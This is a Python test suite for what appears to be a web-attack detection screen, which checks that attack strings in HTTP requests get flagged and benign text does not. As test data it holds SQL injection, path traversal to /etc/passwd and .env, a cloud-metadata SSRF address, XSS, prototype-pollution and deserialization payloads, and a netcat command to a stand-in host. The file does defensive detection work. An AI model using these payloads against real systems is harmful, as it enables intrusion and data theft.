"""The screen: attacks that must reach the model, harmless text that must not, and the proof over the generators."""

from __future__ import annotations

import json
import random
import time
from itertools import pairwise
from pathlib import Path
from urllib.parse import quote

import pytest
from hypothesis import given
from hypothesis import strategies as st

from vedette.datasets.generate import GENERATORS
from vedette.http_request import HTTPRequest
from vedette.parsing.field import Field
from vedette.parsing.pipeline import ParsingPipeline
from vedette.parsing.values import is_plain_pair, is_plain_word
from vedette.tokenization.http_tokenizer import windows_of
from vedette.tokenization.screen import hot_spots, is_inert

CASES = json.loads((Path(__file__).parent / "cases" / "screen.json").read_text(encoding="utf-8"))
DRAWS = 500
# Shares of a family that the screen may swallow, as measured with room for other seeds; each sample was looked at, and
# docs/screen.md says what they are. A family that is not named: one draw in 250.
# Packed or hexadecimal pickles, CouchDB's paths, addresses that decode to plain ones and the like are not read.
ALLOWED = {
    "upload": 0.02, "ssrf": 0.012, "redirect": 0.03, "xss": 0.01, "nosqli": 0.01, "crlf": 0.008,
    "deser": 0.04, "traversal": 0.014, "codei": 0.006, "sqli": 0.006,
}  # fmt: skip
PIPELINE = ParsingPipeline()


@pytest.mark.parametrize(
    ("attack_class", "text"), [(name, text) for name, rows in CASES["attacks"].items() for text in rows]
)
def test_an_attack_is_read(attack_class: str, text: str) -> None:
    assert not is_inert(text)


@pytest.mark.parametrize("text", ["<script>", "1 or 1=1", "../../x", "select x", "10.0.0.1", "a\x00b"])
def test_an_attack_behind_padding_lies_in_a_window(text: str) -> None:
    padded = "word " * 20_000 + text + " word" * 20_000
    windows = windows_of(Field("query", "q", padded))
    assert any(text in window.text for window in windows)
    assert sum(len(window.text) for window in windows) < 4000


@pytest.mark.parametrize(
    "text",
    [
        "constconstructorructor[protoprototypetype][a]=1",
        "class.classLoader.URLs[0]=http://evil.example",
        "it's onfocus=x ",
    ],
)
def test_a_name_in_a_long_value_is_read(text: str) -> None:
    assert any(
        text[:12] in window.text for window in windows_of(Field("form", "q", "word " * 40 + text + " word" * 40))
    )


@pytest.mark.parametrize(
    "text",
    ["aa: b;" * 26 + "(", "color: red;" * 14 + "(", "a" + "\n" * 40_000 + "x", "\t" * 20_000 + " " * 20_000 + "x",
     "a \n" * 20_000, "(X11; " * 10_000, "'s " * 20_000, ";a=" * 20_000, "|" * 40_000, "{a_" * 20_000, "[a]" * 20_000,
     "1," * 20_000 + "*", "a[0]" * 20_000, "&a[0].b=" + "x" * 40_000],
)  # fmt: skip
def test_the_screen_is_fast_on_its_own_signs(text: str) -> None:
    began = time.process_time()
    is_inert(text[:160])
    hot_spots(text)
    assert time.process_time() - began < 2  # milliseconds; hours where a rule tries the same stretch again and again


def test_a_long_serialised_object_is_read() -> None:
    for text in ("rO0ABXNyAC" * 1000, "aced0005" * 1000, "x" * 5000 + "proto"):
        assert windows_of(Field("cookie", "c", text))
    (head, *_) = windows_of(Field("cookie", "c", "rO0ABXNy" + "A" * 3000 + "//x.y" + "A" * 3000))
    assert head.offset == 0
    assert head.text.startswith("rO0ABXNyA")


@pytest.mark.parametrize("text", CASES["harmless"])
def test_harmless_text_is_not(text: str) -> None:
    assert is_inert(text)


def test_what_a_path_may_hold_is_more_than_what_a_value_may() -> None:
    for path in (
        "/wp-content/uploads/2022/07/a-1.jpg",
        "/static/version16/he_IL/js__x--y/form.svg",
        "/Content/\u05d0.jpg",
    ):
        assert is_inert(path, "path")
    for path in (
        "/etc/passwd",
        "/a/../b",
        "//evil.example",
        "/a;id",
        "/union+select+1",
        "/onerror=alert",
        "/index.php",
        "/proxy/169.254.169.254/x",
        "/fetch/file:/home/app",
        "/a/data:text/html,x",
    ):
        assert not is_inert(path, "path")
    assert not is_inert("/wp-content/config", "query")


def test_names_are_screened_by_rules_of_their_own() -> None:
    for name in ("og:image:secure_url", "rs_", "static.example/4/images/", "shell#lang", "\u05e9\u05dd"):
        assert windows_of(Field("json", name, name, (), "name")) == []
    for name in (
        "__proto__", "a.__class__", "$ne", "@type", "constructor[prototype]", "echo x", "a<b", "etc/passwd",
        "action:delete", "a'#b", "#",
    ):  # fmt: skip
        assert windows_of(Field("json", name, name, (), "name"))


@given(st.text(st.sampled_from("aZ09._-'<$[]"), max_size=12), st.text(st.sampled_from("aZ09._-'<%;$"), max_size=12))
def test_what_is_passed_over_is_inert(name: str, value: str) -> None:
    if is_plain_pair(name, value):
        fields = PIPELINE.parse(HTTPRequest("GET", f"/?{name}={value}", (("Cookie", f"{name}={value}"),))).fields
        assert not any(windows_of(field) for field in fields)


LOADED = """
    proto construct passwd localhost classloader typeconfuse crossdomain ro0ab aaeaaad gasv gasw gAJ h4sia aced0005
    04086f3a __class __init __glob __mro rO0 wEy AAEAAAD H4sI BAh 8005
""".split()


@given(
    st.text(st.sampled_from("aZ09_-"), max_size=5),
    st.sampled_from(LOADED),
    st.text(st.sampled_from("aZ09_-"), max_size=8),
)
def test_words_that_are_passed_over_are_none_that_the_screen_knows(before: str, loaded: str, behind: str) -> None:
    for word in (before + loaded + behind, (before + loaded + behind).upper(), (loaded + behind)[:11]):
        assert not is_plain_word(word) or is_inert(word)
    assert is_plain_word("keep-alive")
    assert not is_plain_word("localhost")


def test_of_a_middling_value_its_hot_part_is_read() -> None:
    prose = "a lamp for the garden, and a chair. " * 6
    (window,) = windows_of(Field("form", "note", prose + "<script>alert(1)</script>" + prose))
    assert "<script>alert(1)</script>" in window.text
    assert len(window.text) < 120
    assert windows_of(Field("form", "note", prose + "a user of it. " + prose)) == []
    command = "&A=" + "1" * 40 + " nc evil.example 4444 "
    assert windows_of(Field("form", "note", "hello " * 30 + command + "hello " * 30 + "&B=" + "1" * 40 + " x"))


@pytest.mark.parametrize("family", sorted(set(GENERATORS) - {"benign"}))
def test_generated_attacks_are_read(family: str) -> None:
    """Each drawn payload stands in a query argument; one of the fields it gives must reach the model."""
    rng = random.Random(2026)
    swallowed = []
    for _ in range(DRAWS):
        payload = GENERATORS[family](rng)
        target = "/?q=" + quote(payload.encode("utf-8", "surrogatepass"), safe="")
        fields = PIPELINE.parse(HTTPRequest("GET", target)).fields
        if not any(windows_of(field) for field in fields if field.location == "query"):
            swallowed.append(payload)
    assert len(swallowed) <= ALLOWED.get(family, 0.004) * DRAWS, swallowed


@given(st.text(st.sampled_from("ab .,'-/\n1\uff1c"), max_size=80), st.integers(0, 40))
def test_hot_spots_are_ordered_and_apart(text: str, join: int) -> None:
    spots = hot_spots(text, join)
    assert all(0 <= start < end <= len(text) for start, end in spots)
    assert all(after[0] - before[1] > join for before, after in pairwise(spots))
    read = text.rstrip() if text.endswith("  ") else text  # blanks of a page's layout
    assert all(any(start <= at < end for start, end in spots) for at, char in enumerate(read) if char in "'\n\uff1c")


@pytest.mark.parametrize(
    "text", ['"Windows"', "*/*", "text/css,*/*;q=0.1", '"Chromium";v="138", "Not=A?Brand";v="8"', '"x86"']
)
def test_what_browsers_say_in_headers_is_inert(text: str) -> None:
    assert is_inert(text, "header")


@pytest.mark.parametrize(
    "text",
    [
        '"or 1 like 1 or"', '"union select pw from users where 1 or"', "../.env", "../config.php", "WEB-INF/web.xml",
        ".git/config", "../..", "1/*, */or-1", '"load data local infile"', '"Windows', "text/javascript", "a/../b",
    ],
)  # fmt: skip
def test_what_is_only_shaped_like_them_is_read(text: str) -> None:
    assert not is_inert(text, "header")
